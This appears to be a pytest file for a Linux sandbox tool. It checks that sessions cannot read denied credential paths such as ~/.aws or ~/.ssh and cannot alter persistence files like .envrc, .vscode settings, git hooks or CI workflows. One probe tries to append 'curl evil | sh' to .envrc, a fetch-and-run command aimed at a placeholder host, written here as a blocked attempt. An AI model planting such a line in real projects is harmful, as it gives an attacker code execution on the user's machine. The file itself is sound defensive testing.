"""Masks and persistence binds never write to the host (issue 13, items 2 and 3).

A session that does nothing leaves the host's ``$HOME`` exactly as it was (every entry's
``lstat``, mtimes included): no placeholder for a denied path that does not exist (an empty
``~/.bash_profile`` stops bash login shells from reading ``~/.profile``). What did not exist at
launch and appears on the host later is masked (denied) or made read-only (persistence) by the
view guard; the directories on the way to a protected path cannot be moved aside.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from nonod.policy import Access, ResolvedPolicy
from nonod.profiles import CliOverrides, ResolveContext, load_profile, parse_profile, resolve

from ..conftest import Result, SandboxUser
from .test_sandbox import policy, probe
from .test_viewguard import WAIT, _masked, _meanwhile, _read_only

#: Every test here launches a session in new namespaces.
pytestmark = pytest.mark.userns

SEED = Path(__file__).parents[2] / "profiles" / "gitbot.json"


@pytest.fixture
def fake_home(world_tmp: Path, sandbox_user: SandboxUser) -> Path:
    """A small Debian-like home: ``.profile`` and ``.bashrc``, no ``.bash_profile``; a project
    with a repository; a few directories."""
    home = world_tmp / "home"
    for d in ("proj/.git/hooks", "proj/.git/info", "proj/src", ".config/htop", ".cache"):
        (home / d).mkdir(parents=True)
    files = {".profile": "[ -f ~/.bashrc ] && . ~/.bashrc\n", ".bashrc": "alias ll='ls -l'\n",
             ".config/htop/htoprc": "x\n", "proj/.git/config": "[core]\n",
             "proj/.git/HEAD": "ref: refs/heads/main\n", "proj/src/main.py": "print(1)\n"}
    for name, text in files.items():
        (home / name).write_text(text)
    for path in (home, *home.rglob("*")):
        sandbox_user.chown(path)
    # Old, distinct times: a change of any of them shows.
    for i, path in enumerate(sorted((home, *home.rglob("*")), reverse=True)):
        os.utime(path, ns=(1_600_000_000_000_000_000 + i, 1_600_000_000_000_000_000 + i),
                 follow_symlinks=False)
    return home


def snapshot(root: Path) -> dict[str, tuple[int, ...]]:
    """Every entry under ``root`` (and itself), by relative path: its ``lstat``, but atime."""
    out: dict[str, tuple[int, ...]] = {}
    for path in (root, *root.rglob("*")):
        st = os.lstat(path)
        out[str(path.relative_to(root))] = (st.st_mode, st.st_ino, st.st_nlink, st.st_uid,
                                            st.st_gid, st.st_size, st.st_mtime_ns,
                                            st.st_ctime_ns)
    return out


def resolved(profile: bytes, home: Path, workdir: Path, uid: int,
             overrides: CliOverrides | None = None) -> ResolvedPolicy:
    ctx = ResolveContext(home=str(home), workdir=str(workdir), uid=uid)
    return resolve(parse_profile(profile, "test.json"), ctx, overrides=overrides)


HOME_WRITABLE = json.dumps({
    "meta": {"name": "home-writable"},
    "workdir": {"access": "readwrite"},
    "security": {"groups": ["python_runtime"]},
    "filesystem": {"allow": ["$HOME"]},
}).encode()

LOOK = ("print(sorted(os.listdir(os.environ['HOME'])))\n"
        "print(open(os.environ['HOME'] + '/.profile').read() if os.access("
        "os.environ['HOME'] + '/.profile', os.R_OK) else '')\n")


@pytest.mark.parametrize("which", ["seed", "home-writable"])
def test_a_session_that_does_nothing_leaves_the_host_home_as_it_was(
        sandbox_user: SandboxUser, fake_home: Path, which: str) -> None:
    if which == "seed":
        assert load_profile("gitbot", user_dir=None) == parse_profile(SEED.read_bytes(), "g")
        # The seed's workdir is readwrite: with the session started in $HOME (granted by
        # name, as it must be), $HOME is writable and every denied name in it is in the view.
        pol = resolved(SEED.read_bytes(), fake_home, fake_home, sandbox_user.uid,
                       CliOverrides(allow=(str(fake_home),)))
        cwd = fake_home
    else:
        pol = resolved(HOME_WRITABLE, fake_home, fake_home / "proj", sandbox_user.uid)
        cwd = fake_home / "proj"
    before = snapshot(fake_home)
    r = sandbox_user.run(pol, probe(LOOK), cwd=str(cwd), env=(("HOME", str(fake_home)),))
    assert r.code == 0, r.stderr
    assert snapshot(fake_home) == before
    assert not (fake_home / ".bash_profile").exists()
    # The session sees the host's names, no more (no placeholder in its view either).
    assert r.stdout.split("\n")[0] == str(sorted(os.listdir(fake_home)))


def _run_while(sandbox_user: SandboxUser, pol: ResolvedPolicy, work: Path,
               change: Callable[[], None], code: str,
               restored: Callable[[Path], bool]) -> Result:
    """Run ``code`` once ``change`` is made and the session's view shows ``restored``."""
    thread = _meanwhile(work, change, restored)
    try:
        return sandbox_user.run(pol, probe(WAIT + code), cwd=str(work))
    finally:
        thread.join()


def test_denied_paths_the_host_creates_later_are_masked_at_any_depth(
        sandbox_user: SandboxUser, fake_home: Path) -> None:
    """``~/.aws`` (a missing name in a watched directory) and ``~/.kube/config`` whose
    parent ``~/.kube`` is missing too: the guard watches the new ``~/.kube`` as soon as it
    appears and masks what is made in it."""
    home, work = fake_home, fake_home / "proj"
    aws, kube = home / ".aws", home / ".kube"
    pol = policy((home, Access.READWRITE), denials=(aws, kube / "config"))

    def create() -> None:
        aws.mkdir()
        (aws / "credentials").write_text("AWS-CANARY\n")
        kube.mkdir()
        (kube / "config").write_text("KUBE-CANARY\n")

    r = _run_while(sandbox_user, pol, work, create,
                   f"t(lambda: open('{aws}/credentials').read())\n"
                   f"t(lambda: os.listdir('{aws}'))\n"
                   f"t(lambda: open('{kube}/config').read())\n"
                   f"t(lambda: open('{kube}/config', 'a').write('x'))\n",
                   lambda view: _masked(view, aws) and (_masked(view, kube / "config")
                                                        or _read_only(view, kube / "config")))
    assert r.code == 0, r.stderr
    assert r.stdout.split("\n")[:4] in (["EACCES", "EACCES", "EACCES", "EACCES"],
                                        ["EACCES", "EACCES", "EACCES", "EROFS"])
    assert "CANARY" not in r.stdout
    assert (kube / "config").read_text() == "KUBE-CANARY\n"


def test_persistence_files_the_host_creates_later_are_read_only(
        sandbox_user: SandboxUser, fake_home: Path) -> None:
    work = fake_home / "proj"

    def create() -> None:
        (work / ".envrc").write_text("export A=1\n")
        (work / ".vscode").mkdir()
        (work / ".vscode" / "settings.json").write_text("{}\n")
        for p in (work / ".envrc", work / ".vscode", work / ".vscode" / "settings.json"):
            sandbox_user.chown(p)

    r = _run_while(sandbox_user, policy((work, Access.READWRITE)), work, create,
                   "t(lambda: open('.envrc', 'a').write('curl evil | sh\\n'))\n"
                   "t(lambda: open('.vscode/settings.json', 'w').write('{}'))\n"
                   "t(lambda: open('.vscode/tasks.json', 'w').write('{}'))\n"
                   "t(lambda: open('.envrc').read().strip())\n",
                   lambda view: _read_only(view, work / ".envrc")
                   and _read_only(view, work / ".vscode"))
    assert r.code == 0, r.stderr
    assert r.stdout.split("\n")[:4] == ["EROFS", "EROFS", "EROFS", "OK export A=1"]
    assert (work / ".envrc").read_text() == "export A=1\n"
    assert not (work / ".vscode" / "tasks.json").exists()


def test_existing_persistence_stays_read_only_and_its_way_cannot_be_moved(
        sandbox_user: SandboxUser, fake_home: Path) -> None:
    """``.git`` holds protected paths (and ``.git/info`` a missing one): moving either aside
    to build a new one with planted hooks fails, as does moving ``.github`` (its
    ``workflows`` is read-only). Other files keep working."""
    work = fake_home / "proj"
    (work / ".github" / "workflows").mkdir(parents=True)
    (work / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    for p in (work / ".github", work / ".github" / "workflows",
              work / ".github" / "workflows" / "ci.yml"):
        sandbox_user.chown(p)
    r = sandbox_user.run(policy((work, Access.READWRITE)), probe(
        "t(lambda: open('.git/hooks/pre-commit', 'w'))\n"
        "t(lambda: open('.git/config', 'a'))\n"
        "t(lambda: open('.github/workflows/ci.yml', 'a'))\n"
        "t(lambda: os.rename('.git', 'old-git'))\n"
        "t(lambda: os.rename('.git/info', '.git/old-info'))\n"
        "t(lambda: os.rename('.github', 'old-github'))\n"
        "t(lambda: os.rmdir('.git/info'))\n"
        "t(lambda: open('.git/HEAD').read().strip())\n"
        "t(lambda: open('.git/index.lock', 'w').write('x'))\n"
        "t(lambda: os.rename('src', 'lib'))\n"
    ), cwd=str(work))
    assert r.code == 0, r.stderr
    assert r.stdout.split("\n")[:10] == [
        "EROFS", "EROFS", "EROFS", "EBUSY", "EBUSY", "EBUSY", "EBUSY",
        "OK ref: refs/heads/main", "OK 1", "OK "]
    assert (work / ".git" / "config").read_text() == "[core]\n"
    assert (work / "lib" / "main.py").exists()


def test_a_repository_the_session_makes_is_its_own(
        sandbox_user: SandboxUser, world_tmp: Path) -> None:
    """No ``.git`` at launch: ``git init`` and a commit work (nothing under ``.git`` is
    guarded; see docs/sandbox.md for what that leaves)."""
    work = world_tmp / "fresh"
    work.mkdir()
    sandbox_user.chown(work)
    git = "/usr/bin/git"
    if not os.path.exists(git):
        pytest.skip("git is not installed")
    pol = policy((work, Access.READWRITE))
    script = (f"{git} init -q . && echo x > a && {git} add a && "
              f"{git} -c user.name=n -c user.email=e@x commit -qm m && echo DONE")
    r = sandbox_user.run(pol, ["/bin/sh", "-c", script], cwd=str(work),
                         env=(("HOME", str(work)),))
    assert r.code == 0, r.stderr
    assert "DONE" in r.stdout


def test_absent_persistence_and_denied_names_cannot_be_created(
        sandbox_user: SandboxUser, fake_home: Path) -> None:
    home, work = fake_home, fake_home / "proj"
    # As a profile with a writable $HOME and workdir grants them: persistence names are
    # protected at the top of each writable grant (and the rc files at the top of $HOME).
    pol = policy((home, Access.READWRITE), (work, Access.READWRITE), denials=(home / ".ssh",))
    r = sandbox_user.run(pol, probe(
        "t(lambda: open('.envrc', 'w'))\n"
        "t(lambda: os.mkdir('.vscode'))\n"
        f"t(lambda: os.mkdir('{home}/.ssh'))\n"
        f"t(lambda: open('{home}/.bash_profile', 'w'))\n"
        "t(lambda: open('.git/info/attributes', 'w'))\n"
    ), cwd=str(work), env=(("HOME", str(home)),))
    assert r.code == 0, r.stderr
    assert set(r.stdout.split("\n")[:5]) <= {"EACCES", "EPERM"}, r.stdout
    for name in ("proj/.envrc", "proj/.vscode", ".ssh", ".bash_profile",
                 "proj/.git/info/attributes"):
        assert not (home / name).exists()
